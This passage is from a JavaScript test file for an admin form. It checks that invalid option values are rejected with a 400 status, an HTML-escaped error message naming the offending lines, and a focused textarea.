          options: 'gold|Gold\nSILVER|Silver\n\nbronze plan\nx-1|X',
          isNullable: 'on',
        },
      });
      expect(admin.lastStatus).toBe(400);
      const alerts = [...admin.lastBody.matchAll(/<p class="error" role="alert" id="form-error">([^<]*)<\/p>/g)].map((m) => m[1]);
      expect(alerts).toEqual([
        'options, lines 1, 4 and 5: &quot;gold&quot;, &quot;bronze plan&quot; and &quot;x-1&quot; are not option values: a value is capitals, digits and _, starting with a capital, as in GOLD (at most 63 characters)',
      ]);
      expect(admin.lastBody).toMatch(/<textarea\s+id="new-companies-options"[^>]*\sautofocus[\s>]/);
      expect(admin.lastBody).toMatch(/<textarea\s+id="new-companies-options"[^>]*data-option-values="lines"/);
    });
  });
});
